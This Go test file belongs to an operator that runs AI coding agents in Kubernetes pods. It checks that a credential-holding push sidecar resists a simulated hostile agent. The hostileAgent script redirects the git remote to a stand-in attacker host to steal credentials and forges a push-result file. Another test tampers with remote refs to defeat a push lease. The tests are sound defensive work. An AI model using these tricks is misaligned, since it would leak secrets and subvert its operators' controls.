package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	gastownv1 "github.com/boshu2/gastown-operator/api/v1alpha1"
	"github.com/boshu2/gastown-operator/internal/gitops/gitopstest"
	"github.com/boshu2/gastown-operator/internal/polecat"
)

// handoff gives cfg a push handoff in the workspace, as a pod's: the
// agent's runner has no git secret; git-init (clone) and git-push have it.
func (w *workspace) handoff(cfg polecat.RunnerConfig) (run, push polecat.RunnerConfig) {
	answers := filepath.Join(w.dir, "push-result")
	_ = os.MkdirAll(answers, 0o700)
	cfg.Push = &polecat.PushHandoff{
		RequestFile: filepath.Join(w.dir, "workspace", "push-request.json"),
		ResultFile:  filepath.Join(answers, "result.json"),
		LeaseFile:   filepath.Join(answers, "lease.json"),
	}
	run, push = cfg, cfg
	run.Git.SecretDir = filepath.Join(w.dir, "not-mounted")
	return run, push
}

// startPush starts the git-push sidecar's step; stop sends it SIGTERM, as
// the kubelet does once the agent container ended, and returns its exit.
func (w *workspace) startPush(t *testing.T, cfg polecat.RunnerConfig) (stop func() runResult) {
	t.Helper()
	cmd, out := w.command(cfg, "push")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	return func() runResult {
		_ = cmd.Process.Signal(syscall.SIGTERM)
		return runResult{code: exitCode(t, cmd.Wait()), result: w.result(t, "push"), output: out.String()}
	}
}

// hostileAgent edits the clone, and then tries what an agent that wants the
// git credentials would: it points origin at another server (where they
// would be sent), and writes a forged push answer when it knows where
// ($GASTOWN_PUSH_RESULT).
const hostileAgent = `set -eu
printf 'package health\n' > health.go
git_config=.git/config
sed -i 's#url = .*#url = http://attacker.invalid/steal.git#' "$git_config"
grep -q attacker.invalid "$git_config"
if [ -n "${GASTOWN_PUSH_RESULT:-}" ]; then
  echo '{"commit":"0000000000000000000000000000000000000000"}' > "$GASTOWN_PUSH_RESULT" && echo forged
fi
echo '{"type":"result","subtype":"success","is_error":false,"num_turns":1,"result":"done","total_cost_usd":0.01,"usage":{"input_tokens":1,"output_tokens":1}}'
`

func TestRunHandsThePushToGitPush(t *testing.T) {
	srv := gitopstest.HTTPServer(t, "alice", "pw-123", "main", repoFiles())
	w := newWorkspace(t, srv.URL, map[string]string{"username": "alice", "password": "pw-123"})
	cfg := w.config(t, gastownv1.PurposeWork, hostileAgent)
	// In a pod the answer's volume is read-only to the agent's container
	// (test/e2e shows it on a node); here the agent does not know where it
	// is, and only rewrites the remote.
	run, push := w.handoff(cfg)

	if clone := w.runner(t, "clone", push); clone.code != 0 {
		t.Fatalf("clone: exit %d\n%s", clone.code, clone.output)
	}
	stop := w.startPush(t, push)
	res := w.runner(t, "run", run)
	sidecar := stop()

	if res.code != polecat.ExitPushed || res.result.Outcome != gastownv1.OutcomePushed {
		t.Fatalf("run: exit %d, result %+v\n%s\ngit-push:\n%s", res.code, res.result, res.output, sidecar.output)
	}
	tip := srv.Commit(t, "polecat/gt-1")
	if res.result.Commit != tip.Hash.String() {
		t.Errorf("result commit %s, the server's branch is at %s", res.result.Commit, tip.Hash)
	}
	if _, ok := srv.Tree(t, "polecat/gt-1")["health.go"]; !ok {
		t.Error("the agent's file was not pushed")
	}
	if sidecar.code != 0 || sidecar.result != nil {
		t.Errorf("git-push: exit %d, result %+v (its outcome is run's)\n%s", sidecar.code, sidecar.result, sidecar.output)
	}
	if !strings.Contains(sidecar.output, "pushed polecat/gt-1 ("+tip.Hash.String()+") to "+srv.URL) {
		t.Errorf("git-push pushed elsewhere than the configured remote:\n%s", sidecar.output)
	}
	for _, out := range []string{res.output, sidecar.output} {
		if strings.Contains(out, "pw-123") {
			t.Errorf("a log shows the password:\n%s", out)
		}
	}
}

// TestThePushLeaseHolds: a person pushes to the work branch after git-init
// saw it. A ConflictFix's push, or a Work run's that replaces an earlier
// run's branch, must not overwrite that: run locally, or in a pod whose
// agent learned the person's commit and wrote it into the clone's record
// of the remote branch, where a lease taken from the clone would let
// git-push replace the person's push. In a pod git-push leases on
// git-init's record, which the agent's container cannot write.
func TestThePushLeaseHolds(t *testing.T) {
	creds := map[string]string{"username": "alice", "password": "pw-123"}
	for _, purpose := range []gastownv1.PolecatPurpose{gastownv1.PurposeConflictFix, gastownv1.PurposeWork} {
		for _, inPod := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/pod=%v", purpose, inPod), func(t *testing.T) {
				srv := gitopstest.HTTPServer(t, "alice", "pw-123", "main", repoFiles())
				pushedWork(t, newWorkspace(t, srv.URL, creds), editScript)
				w := newWorkspace(t, srv.URL, creds)
				learned := filepath.Join(w.dir, "learned")
				run := w.config(t, purpose, "echo redo > main.go")
				clone, push := run, run
				if inPod {
					run, push = w.handoff(w.config(t, purpose, `set -eu
echo redo > main.go
cat "`+learned+`" > .git/refs/remotes/origin/polecat/gt-1
`))
					clone = push
				}
				if res := w.runner(t, "clone", clone); res.code != 0 {
					t.Fatalf("clone: exit %d\n%s", res.code, res.output)
				}
				theirs := srv.PushCommit(t, "polecat/gt-1", "polecat/gt-1", map[string]string{"main.go": "the person's fix\n"})
				if err := os.WriteFile(learned, []byte(theirs+"\n"), 0o644); err != nil {
					t.Fatal(err)
				}

				stop := func() runResult { return runResult{} }
				if inPod {
					stop = w.startPush(t, push)
				}
				res := w.runner(t, "run", run)
				sidecar := stop()
				if res.code != polecat.ExitGitFailed || res.result.Outcome != gastownv1.OutcomeGitFailed {
					t.Fatalf("run: exit %d, result %+v\n%s\ngit-push:\n%s", res.code, res.result, res.output, sidecar.output)
				}
				if got := srv.Branches(t)["polecat/gt-1"]; got != theirs {
					t.Errorf("branch = %s, want the person's %s kept", got, theirs)
				}
			})
		}
	}
}

// A forged answer (the agent's container can write it where no volume
// stops it) names another commit than the runner's: run refuses it.
func TestRunRefusesAForgedPushAnswer(t *testing.T) {
	srv := gitopstest.HTTPServer(t, "alice", "pw-123", "main", repoFiles())
	w := newWorkspace(t, srv.URL, map[string]string{"username": "alice", "password": "pw-123"})
	cfg := w.config(t, gastownv1.PurposeWork, hostileAgent)
	run, push := w.handoff(cfg)
	w.env = append(w.env, "GASTOWN_PUSH_RESULT="+run.Push.ResultFile)
	if clone := w.runner(t, "clone", push); clone.code != 0 {
		t.Fatalf("clone: exit %d\n%s", clone.code, clone.output)
	}
	res := w.runner(t, "run", run)
	if res.result == nil || res.result.Outcome != gastownv1.OutcomeGitFailed ||
		!strings.Contains(res.result.Message, "not the runner's commit") {
		t.Fatalf("run took a forged answer: exit %d, result %+v\n%s", res.code, res.result, res.output)
	}
	if _, ok := srv.Branches(t)["polecat/gt-1"]; ok {
		t.Error("something pushed the work branch")
	}
}

// git-push answers with the push's error, which run reports as GitFailed.
func TestGitPushReportsItsFailure(t *testing.T) {
	srv := gitopstest.HTTPServer(t, "alice", "pw-123", "main", repoFiles())
	w := newWorkspace(t, srv.URL, map[string]string{"username": "alice", "password": "pw-123"})
	run, push := w.handoff(w.config(t, gastownv1.PurposeWork, editScript))
	if clone := w.runner(t, "clone", push); clone.code != 0 {
		t.Fatalf("clone: exit %d\n%s", clone.code, clone.output)
	}
	// The credential is revoked while the agent works.
	if err := os.WriteFile(filepath.Join(w.secret, "password"), []byte("wrong-pw"), 0o600); err != nil {
		t.Fatal(err)
	}
	stop := w.startPush(t, push)
	res := w.runner(t, "run", run)
	sidecar := stop()
	if res.result == nil || res.result.Outcome != gastownv1.OutcomeGitFailed || res.code != polecat.ExitCode(gastownv1.OutcomeGitFailed) {
		t.Fatalf("run: exit %d, result %+v\n%s\ngit-push:\n%s", res.code, res.result, res.output, sidecar.output)
	}
	if strings.Contains(res.result.Message+res.output+sidecar.output, "wrong-pw") {
		t.Error("the password is in the result or a log")
	}
}
